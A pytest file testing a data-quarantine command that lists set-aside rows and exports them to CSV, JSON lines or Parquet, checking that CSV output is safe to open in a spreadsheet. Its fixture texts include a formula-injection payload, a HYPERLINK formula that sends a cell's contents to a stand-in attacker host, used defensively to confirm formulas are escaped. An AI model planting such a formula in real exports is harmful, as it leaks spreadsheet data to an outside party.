"""promptmill data quarantine: what was set aside is listed without texts and exported whole, safe to open in a spreadsheet."""

import csv
import json

import pandas as pd
import pytest

from flows import cli
from flows.data_quarantine import EXPORT_SUFFIXES
from pipeline.data.set_aside import EXPORTS, FORMULA_STARTS
from pipeline.layout import Layout
from pipeline.records import write_parquet
from tests.data.conftest import REPOSITORY, TASK

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TEXTS = [FORMULA, "+1", "-1", "@handle first", "plain, with a comma", "two\nlines", "'quoted", "\t=1", "\uff1d1", None]


def aside(count, rule, texts, **more):
    frame = pd.DataFrame(
        {
            "row_id": [f"{rule}{i}" for i in range(count)],
            "source_row": range(1, count + 1),
            "text": texts,
            "label": ["positive"] * count,
            "label_confidence": [None if i == 1 else i / 100 for i in range(count)],
            **more,
            "rule": [rule] * count,
            "reason": [f"Reason {i}." for i in range(count)],
        }
    )
    return frame.astype({"text": "str", "label_confidence": "float64"})


@pytest.fixture
def checkout(tmp_path, monkeypatch):
    (tmp_path / "params.yaml").write_text((REPOSITORY / "params.yaml").read_text())
    monkeypatch.chdir(tmp_path)
    quarantined = pd.concat([aside(10, "duplicate", TEXTS), aside(30, "text_length", ["x"] * 30)])
    write_parquet(Layout(tmp_path, TASK).path("quarantined"), quarantined)
    return tmp_path


def run(*arguments):
    return cli.main(["data", "quarantine", TASK, *map(str, arguments)])


@pytest.mark.usefixtures("checkout")
def test_the_list_counts_rules_and_shows_no_text(capsys):
    assert run() == 0
    out = capsys.readouterr().out
    assert "text_length  30" in out
    assert "duplicate    10" in out
    assert "Reason 9." in out
    assert "20 of 40 rows" in out
    assert "HYPERLINK" not in out


@pytest.mark.usefixtures("checkout")
def test_a_rule_and_a_limit_choose_rows(capsys):
    assert run("--rule", "text_length", "--limit", 3) == 0
    out = capsys.readouterr().out
    assert [line.split()[1] for line in out.splitlines() if "Reason" in line] == ["text_length0", "text_length1", "text_length2"]
    assert "3 of 30 rows" in out


def test_rows_that_the_split_set_aside_are_among_them(checkout, capsys):
    more = aside(5, "near_duplicate_across_splits", ["y"] * 5, split=["test"] * 5)
    write_parquet(Layout(checkout, TASK).path("set_aside"), more)
    assert run("--limit", 45) == 0
    assert "near_duplicate_across_splits4" in capsys.readouterr().out
    assert run("--export", "all.parquet") == 0
    table = pd.read_parquet(checkout / "all.parquet")
    assert table["split"].isna().sum() == 40
    assert list(table.columns[-2:]) == ["rule", "reason"]
    assert len(table) == 45


def test_csv_runs_no_formula_and_gives_every_text_back(checkout):
    assert run("--rule", "duplicate", "--export", "out.csv") == 0
    with (checkout / "out.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [row["text"].removeprefix("'") or None for row in rows] == TEXTS
    assert rows[1]["label_confidence"] == ""
    assert rows[0]["source_row"] == "1"


def test_json_lines_and_parquet_hold_the_texts_as_they_are(checkout):
    assert run("--rule", "duplicate", "--export", "out.jsonl") == 0
    records = [json.loads(line) for line in (checkout / "out.jsonl").read_text().splitlines()]
    assert [record["text"] for record in records] == TEXTS
    assert records[1]["label_confidence"] is None
    assert run("--rule", "duplicate", "--export", "out.parquet", "--limit", 4) == 0
    assert pd.read_parquet(checkout / "out.parquet")["text"].tolist() == TEXTS[:4]


@pytest.mark.usefixtures("checkout")
def test_an_unknown_rule_names_the_known_ones(capsys):
    assert run("--rule", "dup") == 1
    assert "Rules with rows: text_length (30), duplicate (10)" in capsys.readouterr().err


def test_before_validate_there_is_nothing_to_list(checkout, capsys):
    Layout(checkout, TASK).path("quarantined").unlink()
    assert run() == 1
    assert "Run the stage validate" in capsys.readouterr().err


def test_an_empty_quarantine_says_so(checkout, capsys):
    write_parquet(Layout(checkout, TASK).path("quarantined"), aside(0, "duplicate", []))
    assert run() == 0
    assert capsys.readouterr().out == f"No row of {TASK} was set aside.\n"


@pytest.mark.usefixtures("checkout")
@pytest.mark.parametrize("arguments", [["--limit", "0"], ["--limit", "x"], ["--export", "out.xlsx"], ["--export", "out"]])
def test_wrong_usage(arguments):
    with pytest.raises(SystemExit) as stop:
        run(*arguments)
    assert stop.value.code == 2


def test_no_half_written_export(checkout, monkeypatch):
    def torn(_batches, path):
        path.write_text("half")
        raise OSError("disk full")

    monkeypatch.setitem(EXPORTS, ".csv", torn)
    assert run("--export", "out.csv") == 1
    assert sorted(path.name for path in checkout.iterdir()) == ["data", "params.yaml"]


def test_the_command_line_knows_the_suffixes():
    assert tuple(EXPORTS) == EXPORT_SUFFIXES
